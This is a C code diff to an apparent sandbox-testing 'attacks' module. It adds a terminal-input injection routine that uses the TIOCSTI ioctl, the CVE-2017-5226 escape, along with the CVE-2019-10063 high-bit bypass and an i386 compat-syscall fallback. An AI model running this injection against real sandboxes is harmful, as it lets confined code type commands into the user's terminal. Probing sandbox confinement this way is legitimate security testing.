@@ -10,23 +10,29 @@
 
 #include "attacks.h"
 
+/* By number; with a bit above the 32 looked at (CVE-2019-10063); from i386. */
+static int
+push(int fd, const char *p)
+{
+	if (ioctl(fd, TIOCSTI, p) == 0 || ioctl(fd, TIOCSTI | 1UL << 32, p) == 0)
+		return 0;
+	return compat_call(I386_IOCTL, fd, TIOCSTI, (long)p, 0);
+}
+
 /*
  * CVE-2017-5226: what is pushed back is read by whoever reads the terminal
- * next.  Whether that was somebody outside is seen outside, by owner.c.  The
- * second try has a bit above the 32 that the kernel looks at (CVE-2019-10063).
+ * next.  Whether that was somebody outside is seen outside, by owner.c.
  */
 int
 push_input(const struct target *t)
 {
 	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
-	unsigned long high = 1UL << 32;
 
 	(void)t;
 	if (fd < 0)
 		fd = STDIN_FILENO;
 	for (const char *p = PUSHED; *p; p++)
-		if (ioctl(fd, TIOCSTI, p) < 0 &&
-		    ioctl(fd, TIOCSTI | high, p) < 0)
+		if (push(fd, p) < 0)
 			return -1;
 	return 0;
 }
